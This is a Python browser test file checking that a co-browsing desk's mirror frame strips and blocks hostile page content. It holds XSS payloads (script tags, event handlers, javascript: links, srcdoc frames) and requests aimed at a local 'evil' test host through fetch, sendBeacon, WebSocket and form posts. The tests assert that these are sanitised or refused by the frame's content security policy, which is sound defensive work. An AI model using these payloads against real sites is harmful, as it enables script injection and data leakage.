"""A hostile page does nothing at the desk: neither what it sends nor what its frame allows."""

from __future__ import annotations

import re

from playwright.sync_api import Frame, Page, expect

from tests.browser.conftest import Crowd
from tests.browser.mirrors import look, picture, site, start
from tests.browser.product import Product

HOSTILE = """<p>The end of a hostile page</p>
<script>window.hit = 1</script><img src="x" onerror="parent.hit = top.hit = 1">
<a id="js" href="javascript:top.hit=1">press</a>
<iframe srcdoc="<script>top.hit=1</script>"></iframe>
<link rel="preconnect" href="{evil}"><link rel="dns-prefetch" href="{evil}">
<link rel="stylesheet" href="{evil}/file/sheet.css"><link rel="prefetch" href="{evil}/file/pre">
<style>@import url({evil}/file/import.css); @font-face {{ font-family: f; src: url({evil}/file/f) }}
p {{ font-family: f; background: url({evil}/file/background) }}</style>
<img src="{evil}/file/picture"><video src="{evil}/file/video" poster="{evil}/file/poster"></video>
<object data="{evil}/file/object"></object><embed src="{evil}/file/embed">
<svg><image href="{evil}/file/svg"/><use href="{evil}/file/use#a"/></svg>
<meta http-equiv="refresh" content="0; url={evil}/file/refresh"><base href="{evil}/">
<form action="{evil}/file/form"><button autofocus formaction="{evil}/file/action">Go</button></form>
<div hx-get="/desk/" hx-trigger="load" data-hx-on:load="top.hit=1" onclick="top.hit=1">hx</div>"""


def _nested(frames: list[Frame]) -> Frame:
    return next(one for one in frames if one.parent_frame and "/mirror/" in one.parent_frame.url)


def test_a_hostile_page_executes_and_fetches_nothing_at_the_desk(
    crowd: Crowd, product: Product
) -> None:
    crowd.expect_complaint("")  # of the hostile page itself, and of the desk's policy
    with site(product, "evil") as evil:
        evil_url = evil.url.replace("localhost", "127.0.0.1")
        with site(product, "<p>A page</p>") as shop:
            visitor, alice = start(crowd, shop.url)
            # Foreign to the website: its domains are localhost and 127.0.0.1 without a port.
            product.rows(
                "UPDATE accounts_website SET domains = %s WHERE key = 'demo' RETURNING 1",
                ["localhost", f"127.0.0.1:{product.port}"],
            )
            try:
                look(alice)
                expect(picture(alice).get_by_text("A page")).to_be_visible()
                # A hostile browser sends what it likes, without our list of elements.
                _send_unclean(visitor.page, HOSTILE.format(evil=evil_url))
                expect(picture(alice).get_by_text("The end of a hostile page")).to_be_visible()
                inner = _nested(alice.page.frames)
                expect(picture(alice).get_by_text("hx")).to_be_visible()
                for frame in alice.page.frames:
                    if frame != inner:
                        assert frame.evaluate("window.hit ?? null") is None
                inner_html = picture(alice).locator("html").inner_html()
                assert not re.search(
                    r"<script|onerror|onclick|hx-get|srcdoc|javascript:", inner_html
                )
                assert "refresh" not in inner_html
                assert (evil.asked, evil.connections) == ([], 0)
                assert alice.page.url.startswith(product.url)
            finally:
                product.rows(
                    "UPDATE accounts_website SET domains = %s WHERE key = 'demo' RETURNING 1",
                    ["localhost", "127.0.0.1", "[::1]"],
                )


# As if the list of elements and the sandbox had failed: put into the frame as it is.
REFUSED = """({ evil, html }) => new Promise((resolve) => {
  const refused = new Set();
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
    refused.add(effectiveDirective);
  });
  const part = document.createElement("div");
  part.innerHTML = html;
  document.body.append(part);
  const script = Object.assign(document.createElement("script"), { src: `${evil}/file/script.js` });
  const inline = document.createElement("script");
  inline.textContent = "window.hit = 1";
  const base = Object.assign(document.createElement("base"), { href: `${evil}/` });
  document.head.append(script, inline, base);
  fetch(`${evil}/file/fetch`).catch(() => {});
  try { new WebSocket(evil.replace("http", "ws")); } catch {}
  try { new Worker("/static/desk/desk.js"); } catch {}
  try { navigator.sendBeacon(`${evil}/file/beacon`, "x"); } catch {}
  document.fonts.load("12px refused", "p").catch(() => {});
  const wanted = %s;
  const wait = (tries) => {
    const isDone = tries === 0 || wanted.every((one) => refused.has(one));
    if (isDone) resolve([...refused].sort());
    else setTimeout(wait, 50, tries - 1);
  };
  wait(600);
})"""


SUBMITTED = """(evil) => {
  const form = document.createElement("form");
  Object.assign(form, { action: `${evil}/file/form`, method: "post" });
  document.body.append(form);
  setTimeout(() => form.submit());
}"""


DIRECTIVES = [
    "base-uri",
    "connect-src",
    "font-src",
    "frame-src",
    "img-src",
    "media-src",
    "object-src",
    "script-src-attr",
    "script-src-elem",
    "style-src-elem",
    "worker-src",
]


def test_the_policy_of_the_frame_refuses_what_a_hostile_page_would_do_by_itself(
    crowd: Crowd, product: Product
) -> None:
    crowd.expect_complaint("")  # each refusal is told to the console
    html = """<img src="{evil}/file/picture" onerror="top.hit = 1">
    <iframe src="{evil}/file/frame"></iframe><video src="{evil}/file/video"></video>
    <object data="{evil}/file/object"></object><embed src="{evil}/file/embed">
    <link rel="stylesheet" href="{evil}/file/sheet.css">
    <style>@font-face {{ font-family: refused; src: url({evil}/file/font) }}
    p {{ font-family: refused }}</style><p onclick="top.hit = 1">text</p>"""
    with site(product, "evil") as evil, site(product, "<p>A page</p>") as shop:
        _visitor, alice = start(crowd, shop.url)
        product.rows(
            "UPDATE accounts_website SET domains = %s WHERE key = 'demo' RETURNING 1",
            [f"localhost:{shop.url.rpartition(':')[2]}", f"127.0.0.1:{product.port}"],
        )
        try:
            look(alice)
            expect(picture(alice).get_by_text("A page")).to_be_visible()
            frame = next(one for one in alice.page.frames if one.url.endswith("/mirror/"))
            known = {"evil": evil.url, "html": html.format(evil=evil.url)}
            refused = frame.evaluate(REFUSED.replace("%s", str(DIRECTIVES)), known)
            assert refused == DIRECTIVES
            assert frame.evaluate("window.hit ?? top.hit ?? null") is None
            # The last one, because the browser then puts a page of its own into the frame.
            frame.evaluate(SUBMITTED, evil.url)
            for _try in range(200):
                if any("form-action" in complaint for complaint in crowd.complaints):
                    break
                alice.page.wait_for_timeout(100)
            else:
                raise AssertionError("the form was not refused")
            assert (evil.asked, evil.connections) == ([], 0)
        finally:
            product.rows(
                "UPDATE accounts_website SET domains = %s WHERE key = 'demo' RETURNING 1",
                ["localhost", "127.0.0.1", "[::1]"],
            )


# The iframe of the Messenger, asked by a page that has built its own snapshot.
UNCLEAN = """(html) => {
  const parsed = new DOMParser().parseFromString(`<html><body>${html}</body></html>`, "text/html");
  let id = 0;
  const read = (node) => {
    id += 1;
    if (node.nodeType === 3) return { type: 3, id, textContent: node.data };
    if (node.nodeType !== 1) return { type: 3, id, textContent: "" };
    const pairs = [...node.attributes].map(({ name, value }) => [name, value]);
    const [attributes, childNodes] = [Object.fromEntries(pairs), [...node.childNodes].map(read)];
    return { type: 2, id, tagName: node.localName, attributes, childNodes };
  };
  const root = read(parsed.documentElement);
  const timestamp = Date.now();
  const events = [
    { type: 4, timestamp, data: { href: location.href, width: 1280, height: 800 } },
    { type: 2, timestamp, data: {
      node: { type: 0, id: 9999, childNodes: [root] }, initialOffset: { top: 0, left: 0 } } },
  ];
  const frame = document.querySelector("causerie-messenger").shadowRoot.querySelector("iframe");
  const message = { causerie: 1, type: "mirror:events", events, isStart: true };
  frame.contentWindow.postMessage(message, "*");
}"""


def _send_unclean(page: Page, html: str) -> None:
    page.evaluate(UNCLEAN, html)
